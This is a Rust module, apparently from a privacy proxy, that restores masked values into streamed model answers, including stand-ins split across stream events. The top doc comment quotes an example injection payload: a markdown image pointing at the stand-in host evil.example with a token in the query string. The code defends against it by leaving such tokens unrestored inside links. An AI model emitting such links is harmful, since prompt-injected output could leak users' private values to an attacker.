//! Puts values back in an answer, also when their stand-in is split over events of a stream.
//!
//! ```text
//! "the valve TA" | "G_7K3M9" | "QXR2W is open"   ->   "the valve " | "" | "FV-203 is open"
//! ```
//!
//! Held back is only what may still become a stand-in of this very call, from its first byte on. Models change case, wrap
//! lines, escape and inflect; [`StandIns`] knows through what a stand-in is still itself. One inside a link stays: an
//! answer that a model was talked into, `![](https://evil.example/?q=TAG_7K3M9QXR2W)`, must not carry the value out when
//! a browser draws it.

mod words;

#[cfg(test)]
mod tests;

use crate::link::Link;
use crate::stand_in::{Before, StandIn, StandIns, Start};
use plant::{Channel, FindingCount, Form, Rewrite};
use std::borrow::Cow;
use std::collections::BTreeMap;
use std::fmt;
use words::Words;

/// Knows the stand-ins of one call and puts their values back.
#[derive(Clone, Default)]
pub struct Restorer {
    known: StandIns,
    texts: BTreeMap<u32, Text>,
    counts: RestoreCounts,
}

/// What a [`Restorer`] met.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct RestoreCounts {
    /// Stand-ins whose value was put back.
    pub restored: u64,
    /// Words that have the form and the check character of a token, but are none of this call's. They stay.
    pub unknown: u64,
    /// Words that begin like a token of this call and are none: the model changed them. They stay.
    pub altered: u64,
    /// Stand-ins of this call that stay because they are in a link.
    pub in_links: u64,
}

impl Restorer {
    pub(crate) fn new(stand_ins: impl IntoIterator<Item = StandIn>) -> Self {
        Self { known: StandIns::new(stand_ins), ..Self::default() }
    }

    /// Whether there is nothing to put back, so that an answer may pass unread.
    #[must_use]
    pub fn idle(&self) -> bool {
        self.known.is_empty()
    }

    /// Knows the stand-ins of another call too, as in a session, where each event makes its own. `false`, and nothing is
    /// learned, if one of them could be taken for one that stands for something else, or if they get too many.
    pub fn learn(&mut self, other: Self) -> bool {
        let both = self.known.with(&other.known);
        both.map(|both| self.known = both).is_some()
    }

    /// What was met so far.
    #[must_use]
    pub fn counts(&self) -> RestoreCounts {
        self.counts
    }
}

impl fmt::Debug for Restorer {
    /// Without stand-ins and values: a log must hold neither.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Restorer")
            .field("known", &self.known.len())
            .field("counts", &self.counts)
            .finish_non_exhaustive()
    }
}

impl Rewrite for Restorer {
    fn push(&mut self, channel: Channel, text: &str) -> String {
        let state = self.texts.entry(channel.number).or_default();
        state.push(text, false, channel.form, &self.known, &mut self.counts)
    }

    fn finish(&mut self, channel: Channel) -> String {
        let mut state = self.texts.remove(&channel.number).unwrap_or_default();
        state.push("", true, channel.form, &self.known, &mut self.counts)
    }

    fn whole(&mut self, text: &str, form: Form) -> Option<String> {
        let rewritten = Text::default().push(text, true, form, &self.known, &mut self.counts);
        (rewritten != text).then_some(rewritten)
    }

    fn document(&mut self, json: &str) -> Option<String> {
        // Its texts come once more, each by itself, and are counted there.
        let mut uncounted = RestoreCounts::default();
        Some(Text::default().push(json, true, Form::Json, &self.known, &mut uncounted))
    }

    /// What stays where a value should be; what is put back is no finding.
    fn findings(&self) -> Vec<FindingCount> {
        let RestoreCounts { unknown, altered, in_links, .. } = self.counts;
        let left = [("token.altered", altered), ("token.link", in_links), ("token.unknown", unknown)];
        let left = left.into_iter().filter(|(_, count)| *count > 0);
        left.map(|(label, count)| FindingCount { label: label.to_owned(), count }).collect()
    }
}

/// One channel's text so far.
#[derive(Clone, Default)]
struct Text {
    /// What may still become a stand-in. Never longer than the longest of them, with all that may be in it.
    held: String,
    before: Before,
    link: Link,
    words: Words,
}

impl Text {
    fn push(&mut self, text: &str, end: bool, form: Form, known: &StandIns, counts: &mut RestoreCounts) -> String {
        let held = std::mem::take(&mut self.held);
        let input = if held.is_empty() { Cow::Borrowed(text) } else { Cow::Owned(held + text) };
        let mut out = String::with_capacity(input.len());
        let mut rest = input.as_ref();
        while !rest.is_empty() {
            let length = match known.at(rest, end, form, self.before) {
                Start::Undecided => {
                    rest.clone_into(&mut self.held);
                    return out;
                }
                Start::Known { length, value } if !self.link.open() => {
                    // The value is the caller's own and is not watched for links that it may open.
                    put(&mut out, value, form);
                    counts.restored += 1;
                    self.words = Words::default();
                    self.before = Before::default();
                    self.before.read(value, Form::Plain);
                    rest = rest.get(length..).unwrap_or_default();
                    continue;
                }
                Start::Known { length, .. } => {
                    counts.in_links += 1;
                    length
                }
                Start::Nothing => {
                    let first = rest.chars().next().map_or(0, char::len_utf8);
                    known.next(rest.as_bytes(), first).unwrap_or(rest.len())
                }
            };
            let (passed, after) = rest.split_at_checked(length).unwrap_or((rest, ""));
            self.before.read(passed, form);
            self.link.read(passed.as_bytes(), form);
            self.words.read(passed.as_bytes(), known, counts);
            out.push_str(passed);
            rest = after;
        }
        if end {
            self.words.end(known, counts);
        }
        out
    }
}

fn put(out: &mut String, value: &str, form: Form) {
    match form {
        Form::Plain => out.push_str(value),
        Form::Json => {
            for character in value.chars() {
                match character {
                    '"' => out.push_str("\\\""),
                    '\\' => out.push_str("\\\\"),
                    '\n' => out.push_str("\\n"),
                    '\r' => out.push_str("\\r"),
                    '\t' => out.push_str("\\t"),
                    control if u32::from(control) < 0x20 => out.push_str(&format!("\\u{:04x}", u32::from(control))),
                    other => out.push(other),
                }
            }
        }
    }
}
